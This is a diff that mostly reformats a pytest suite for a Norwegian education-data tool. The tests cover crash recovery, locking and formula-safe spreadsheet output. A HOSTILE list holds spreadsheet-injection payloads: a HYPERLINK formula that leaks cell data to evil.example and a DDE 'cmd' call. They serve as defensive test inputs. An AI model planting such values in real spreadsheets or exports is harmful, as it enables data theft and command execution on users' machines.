@@ -22,10 +22,10 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
+from conftest import PYTHON, tree_snapshot
 
 from analysis import outputs, paths
 from analysis.cli import main
-from conftest import PYTHON, tree_snapshot
 
 SEED = "seed_hovedopptak_andel_kvinner_2007_2018.csv"
 INTEGRATION = "seed_studiebarometeret_2017_integrering.csv"
@@ -39,8 +39,16 @@ def python() -> str:
 def kvalitet(*args, env: dict | None = None, **kwargs) -> subprocess.CompletedProcess:
     """``python -m analysis ARGS`` in a subprocess (the real entry point)."""
     env = env or dict(os.environ, PYTHONIOENCODING="utf-8")
-    return subprocess.run([python(), "-m", "analysis", *map(str, args)], cwd=paths.ROOT, env=env,
-                          capture_output=True, text=True, encoding="utf-8", timeout=300, **kwargs)
+    return subprocess.run(
+        [python(), "-m", "analysis", *map(str, args)],
+        cwd=paths.ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        encoding="utf-8",
+        timeout=300,
+        **kwargs,
+    )
 
 
 def leftovers(parent: Path, name: str) -> list[str]:
@@ -182,8 +190,10 @@ def test_a_second_run_into_the_same_output_says_another_run_is_busy(tmp_path, ra
         capsys.readouterr()
         assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 1
         err = capsys.readouterr().err
-        assert f"kvalitet ingest: another kvalitet run (process {os.getpid()}) is writing {out.absolute()}; " \
-               "wait for it to finish and run again" in err
+        assert (
+            f"kvalitet ingest: another kvalitet run (process {os.getpid()}) is writing {out.absolute()}; "
+            "wait for it to finish and run again" in err
+        )
         assert tree_snapshot(out) == snapshots["A"]
         table = tmp_path / "flags.csv"
         holder_file = outputs._Lock(outputs.Path(os.path.abspath(table)))
@@ -213,9 +223,17 @@ def test_two_concurrent_runs_never_race(tmp_path, raws, snapshots):
     out = tmp_path / "validated"
     env = dict(os.environ, PYTHONIOENCODING="utf-8")
     for _ in range(3):
-        procs = [subprocess.Popen([python(), "-m", "analysis", "ingest", "--data", str(raws[k]), "--out", str(out)],
-                                  cwd=paths.ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
-                 for k in ("A", "B")]
+        procs = [
+            subprocess.Popen(
+                [python(), "-m", "analysis", "ingest", "--data", str(raws[k]), "--out", str(out)],
+                cwd=paths.ROOT,
+                env=env,
+                stdout=subprocess.PIPE,
+                stderr=subprocess.PIPE,
+                text=True,
+            )
+            for k in ("A", "B")
+        ]
         results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
         for p in procs:
             p.stdout.close()
@@ -264,8 +282,14 @@ sys.exit(main(sys.argv[2:]))
 
 def crash(where: str, *args) -> subprocess.CompletedProcess:
     env = dict(os.environ, PYTHONIOENCODING="utf-8")
-    return subprocess.run([python(), "-c", _CRASH, where, *map(str, args)], cwd=paths.ROOT, env=env,
-                          capture_output=True, text=True, timeout=300)
+    return subprocess.run(
+        [python(), "-c", _CRASH, where, *map(str, args)],
+        cwd=paths.ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
 
 
 def test_killed_right_after_the_exchange_the_new_output_is_official(tmp_path, raws, snapshots):
@@ -280,8 +304,7 @@ def test_killed_right_after_the_exchange_the_new_output_is_official(tmp_path, ra
     assert leftovers(tmp_path, "validated") == [], "the next start removed what the killed run left"
 
 
-def test_killed_between_the_two_renames_the_next_start_restores_the_last_good_output(tmp_path, raws, snapshots,
-                                                                                   capsys):
+def test_killed_between_the_two_renames_the_next_start_restores_the_last_good_output(tmp_path, raws, snapshots, capsys):
     out = tmp_path / "validated"
     assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
     proc = crash("between-renames", "ingest", "--data", raws["B"], "--out", out)
@@ -337,8 +360,13 @@ def test_kill_9_at_random_points_of_ingest_leaves_the_last_good_output(tmp_path,
     assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
     for i in range(10):
         raw = raws["B" if i % 2 == 0 else "A"]
-        proc = subprocess.Popen([python(), "-m", "analysis", "ingest", "--data", str(raw), "--out", str(out)],
-                                cwd=paths.ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        proc = subprocess.Popen(
+            [python(), "-m", "analysis", "ingest", "--data", str(raw), "--out", str(out)],
+            cwd=paths.ROOT,
+            env=env,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
         time.sleep(rng.uniform(0.5, 3.5))
         proc.send_signal(signal.SIGKILL)
         proc.wait()
@@ -358,18 +386,25 @@ def test_kill_9_at_random_points_of_report_leaves_the_last_good_report(tmp_path)
     shared_tmp.mkdir()
     env = dict(os.environ, PYTHONIOENCODING="utf-8", TMPDIR=str(shared_tmp))
     for i in range(4):
-        proc = subprocess.Popen([python(), "-m", "analysis", "report", "--no-static", "--out", str(out)],
-                                cwd=paths.ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        proc = subprocess.Popen(
+            [python(), "-m", "analysis", "report", "--no-static", "--out", str(out)],
+            cwd=paths.ROOT,
+            env=env,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
         time.sleep(rng.uniform(2, 16))
         proc.send_signal(signal.SIGKILL)
         proc.wait()
         now = tree_snapshot(out)
         manifest = json.loads(now["manifest.json"])
         # a finished build differs from the earlier one only in its timestamps (manifest) — or it is the earlier one
-        assert {k: v for k, v in now.items() if k != "manifest.json"} == \
-               {k: v for k, v in good.items() if k != "manifest.json"}, f"kill {i}"
+        assert {k: v for k, v in now.items() if k != "manifest.json"} == {
+            k: v for k, v in good.items() if k != "manifest.json"
+        }, f"kill {i}"
         assert sorted(o["file"] for o in manifest["outputs"]) == sorted(
-            k for k in now if k not in ("manifest.json", outputs.MARKER))
+            k for k in now if k not in ("manifest.json", outputs.MARKER)
+        )
     assert kvalitet("report", "--no-static", "--out", out, env=env).returncode == 0
     assert leftovers(tmp_path, "report") == [], "no stale temporary data after the next start"
     # nothing of kvalitet's, and no data, in the shared temporary folder (Jupyter's own kernel
@@ -496,9 +531,15 @@ def test_a_file_size_limit_changes_nothing(tmp_path, raws, snapshots):
     out = tmp_path / "validated"
     assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
     env = dict(os.environ, PYTHONIOENCODING="utf-8")
-    proc = subprocess.run([python(), "-m", "analysis", "ingest", "--data", str(raws["B"]), "--out", str(out)],
-                          cwd=paths.ROOT, env=env, capture_output=True, text=True, timeout=300,
-                          preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (3000, 3000)))
+    proc = subprocess.run(
+        [python(), "-m", "analysis", "ingest", "--data", str(raws["B"]), "--out", str(out)],
+        cwd=paths.ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (3000, 3000)),
+    )
     assert proc.returncode == 1
     assert f"could not write {out}" in proc.stderr and NOTHING_CHANGED in proc.stderr, proc.stderr
     assert "Traceback" not in proc.stderr
@@ -512,8 +553,9 @@ def test_a_read_only_folder_changes_nothing(tmp_path, raws, snapshots):
     if os.geteuid() == 0:
         folder = tmp_path / "ro"
         folder.mkdir()
-        if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(folder)],
-                          capture_output=True).returncode:
+        if subprocess.run(
+            ["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(folder)], capture_output=True
+        ).returncode:
             pytest.skip("this machine does not allow mounting a tmpfs")
         reason = "the folder is on a read-only file system (choose another --out)"
     else:
@@ -527,8 +569,10 @@ def test_a_read_only_folder_changes_nothing(tmp_path, raws, snapshots):
             subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True)
         else:
             folder.chmod(0o555)
-        for args, target in ((["ingest", "--data", raws["B"], "--out", out], out),
-                             (["flags", raws["B"], "--out", folder / "f.csv"], folder / "f.csv")):
+        for args, target in (
+            (["ingest", "--data", raws["B"], "--out", out], out),
+            (["flags", raws["B"], "--out", folder / "f.csv"], folder / "f.csv"),
+        ):
             proc = kvalitet(*args)
             assert proc.returncode == 1, proc.stderr
             assert f"could not write {target}: {reason}" in proc.stderr and NOTHING_CHANGED in proc.stderr, proc.stderr
@@ -567,19 +611,27 @@ def test_report_on_a_full_disk_changes_nothing(tmp_path):
 
 # --- formula-safe outputs ------------------------------------------------------------------------------
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1;"Klikk")', "+47 cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)",
-           "\tTab", "\rCR"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1;"Klikk")',
+    "+47 cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1;2)",
+    "\tTab",
+    "\rCR",
+]
 
 
 def test_formula_safe_prefixes_text_and_leaves_numbers():
-    frame = pd.DataFrame({
-        "name": HOSTILE + ["Datateknologi"],
-        "text number": ["-1.5", "+3", "-", "2", "x", None, "-0,5"],
-        "change": [-1.5, 2.0, -3.0, 0.0, 1.0, None, -0.25],
-        "n": pd.array([-1, 2, 3, 4, 5, None, 7], dtype="Int64"),
-        "category": pd.Categorical(["=1", "ok", "=1", "ok", "ok", "ok", "ok"]),
-        "=header": ["a"] * 7,
-    })
+    frame = pd.DataFrame(
+        {
+            "name": HOSTILE + ["Datateknologi"],
+            "text number": ["-1.5", "+3", "-", "2", "x", None, "-0,5"],
+            "change": [-1.5, 2.0, -3.0, 0.0, 1.0, None, -0.25],
+            "n": pd.array([-1, 2, 3, 4, 5, None, 7], dtype="Int64"),
+            "category": pd.Categorical(["=1", "ok", "=1", "ok", "ok", "ok", "ok"]),
+            "=header": ["a"] * 7,
+        }
+    )
     safe = outputs.formula_safe(frame)
     assert safe["name"].tolist() == ["'" + h for h in HOSTILE] + ["Datateknologi"]
     # text that is exactly a number is a number, not a formula; a lone "-" is text a spreadsheet keeps
@@ -598,11 +650,18 @@ def test_workbook_cells_are_text_never_formulas(tmp_path):
 
     from analysis.report import tables as t
 
-    flags = pd.DataFrame({"unit_name": HOSTILE, "share_women": [0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
-                          "change": [-1.0, -2.5, 3.0, 0.0, -0.1, 1.0], "url": ["http://x.example"] * 6})
+    flags = pd.DataFrame(
+        {
+            "unit_name": HOSTILE,
+            "share_women": [0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
+            "change": [-1.0, -2.5, 3.0, 0.0, -0.1, 1.0],
+            "url": ["http://x.example"] * 6,
+        }
+    )
     # the writer every workbook of the product goes through (report, flags/survey --out x.xlsx)
-    path = t.write_workbook([("flags", t.people_table(flags, t.generic_columns(flags), "nb"))],
-                            tmp_path / "k.xlsx", "nb")
+    path = t.write_workbook(
+        [("flags", t.people_table(flags, t.generic_columns(flags), "nb"))], tmp_path / "k.xlsx", "nb"
+    )
     book = openpyxl.load_workbook(path)  # not read-only, not data-only: formulas would show as such
     ws = book["flags"]
     cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
@@ -645,8 +704,14 @@ def test_sigterm_stops_a_run_cleanly(tmp_path, raws, snapshots):
     out = tmp_path / "validated"
     assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
     env = dict(os.environ, PYTHONIOENCODING="utf-8")
-    proc = subprocess.Popen([python(), "-m", "analysis", "ingest", "--data", str(raw), "--out", str(out)],
-                            cwd=paths.ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    proc = subprocess.Popen(
+        [python(), "-m", "analysis", "ingest", "--data", str(raw), "--out", str(out)],
+        cwd=paths.ROOT,
+        env=env,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
     deadline = time.monotonic() + 120
     while not (tmp_path / ".validated.kvalitet-lock").exists() and time.monotonic() < deadline:
         time.sleep(0.05)
